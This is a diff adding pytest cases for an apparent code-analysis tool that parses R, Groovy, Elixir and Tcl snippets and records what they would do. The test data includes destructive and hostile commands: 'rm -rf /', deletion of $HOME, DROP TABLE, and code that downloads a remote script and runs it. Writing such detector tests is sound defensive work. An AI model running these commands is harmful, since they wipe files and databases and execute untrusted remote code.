@@ -1,0 +1,77 @@
+"""R, Groovy, Elixir and Tcl in, what they would do out."""
+
+from __future__ import annotations
+
+import pytest
+
+from cases import each
+from interlock.analysis.code.elixir import read_elixir
+from interlock.analysis.code.groovy import read_groovy
+from interlock.analysis.code.r import read_r
+from interlock.analysis.code.tcl import read_tcl
+from interlock.analysis.facts import hole
+from recording_report import Fact, Recorder
+
+READERS = {"r": read_r, "groovy": read_groovy, "elixir": read_elixir, "tcl": read_tcl}
+HOME = hole("HOME")
+
+DEEDS: list[tuple[str, str, list[Fact]]] = [
+    ("r", 'unlink("src", recursive=TRUE)', [("delete", "src", "recursive")]),
+    ("r", 'file.remove(list.files("src"))', [("delete", "src", "bulk")]),
+    ("r", "for (f in dir()) unlink(f)", [("delete", ".", "bulk")]),
+    ("r", 'system("ls"); system2("rm", c("-rf", "/"))', [("shell", "ls"), ("shell", "rm -rf /")]),
+    ("r", 'd <- "src"; unlink(file.path(d, "x"), recursive = TRUE)', [("delete", "src/x", "recursive")]),
+    ("r", "eval(parse(text=\"unlink('x')\"))", [("code", "r", "unlink('x')")]),
+    ("r", 'source("http://x/y.R")', [("run_download", "http://x/y.R")]),
+    ("r", 'DBI::dbExecute(con, "DROP TABLE t")', [("code", "sql", "DROP TABLE t")]),
+    ("groovy", '"rm -rf /".execute()', [("run", "rm", "-rf", "/")]),
+    ("groovy", '["rm", "-rf", "/"].execute().text', [("run", "rm", "-rf", "/")]),
+    ("groovy", 'new File("src").deleteDir()', [("delete", "src", "recursive")]),
+    ("groovy", 'new File("src").eachFileRecurse { it.delete() }', [("delete", "src", "bulk", "recursive")]),
+    ("groovy", "node { stage('x') { sh 'ls' } }", [("shell", "ls")]),
+    ("groovy", 'evaluate(new URL("http://x/y").text)', [("run_download", "http://x/y")]),
+    ("elixir", 'File.rm_rf!("/"); File.rm("x")', [("delete", "/", "recursive"), ("delete", "x")]),
+    ("elixir", 'System.cmd("rm", ["-rf", "/"])', [("run", "rm", "-rf", "/")]),
+    ("elixir", 'Path.wildcard("*") |> Enum.each(&File.rm!/1)', [("delete", "*", "bulk")]),
+    ("elixir", '"src" |> Path.join("x") |> File.rm_rf!()', [("delete", "src/x", "recursive")]),
+    ("elixir", "Repo.delete_all(User)", [("sql_delete", "User", "unfiltered")]),
+    ("elixir", "Repo.delete_all(from u in User, where: u.id == 1)", [("sql_delete", "User")]),
+    ("elixir", 'System.shell("rm -rf #{System.get_env("HOME")}")', [("shell", f"rm -rf {HOME}")]),
+    ("tcl", "set d /; exec rm -rf $d", [("run", "rm", "-rf", "/")]),
+    ("tcl", "file delete -force src", [("delete", "src", "recursive")]),
+    ("tcl", "foreach f [glob *] { file delete $f }", [("delete", "*", "bulk")]),
+    ("tcl", 'spawn bash; send "rm -rf /\\r"; expect eof', [("run", "bash"), ("shell", "rm -rf /")]),
+    ("tcl", "if {$x > [exec id]} { exec ls } else { puts hi }", [("run", "id"), ("run", "ls")]),
+    ("tcl", "exec rm -rf $env(HOME)", [("run", "rm", "-rf", HOME)]),
+]
+
+BENIGN = [
+    ("r", 'x <- read.csv("a.csv"); print("unlink(1)") # unlink("x")\nx %>% filter(a == 1) %>% summarise(n = n())'),
+    ("r", 'rm(list=ls()); cat("hello\\n")'),
+    ("groovy", 'println "rm -rf /" // new File("x").delete()\n[1, 2].each { println it }'),
+    ("elixir", 'IO.puts("File.rm_rf!") # File.rm_rf!("/")\nIO.inspect %{a: 1}'),
+    ("tcl", 'puts "exec rm -rf /"\n# exec rm\nproc a {b} { return [expr {$b * 2}] }'),
+    ("tcl", "while {$i < 3} { incr i }; for {set i 0} {$i < 3} {incr i} { puts $i }"),
+]
+
+
+@each(("language", "source", "told"), DEEDS)
+def test_what_the_program_does_is_told(language: str, source: str, told: list[Fact]) -> None:
+    out = Recorder()
+    READERS[language](source, out)
+    assert out.told == told
+
+
+@pytest.mark.parametrize(("language", "source"), BENIGN)
+def test_harmless_programs_tell_nothing(language: str, source: str) -> None:
+    out = Recorder()
+    READERS[language](source, out)
+    assert [told for told in out.told if told[0] != "read"] == []
+
+
+@each("language", READERS)
+@each("source", ['f "abc', "{", "exec {" * 3000, "{" * 200])
+def test_programs_that_do_not_parse_are_told(language: str, source: str) -> None:
+    out = Recorder()
+    READERS[language](source, out)
+    assert any(told[0] == "unreadable" for told in out.told)
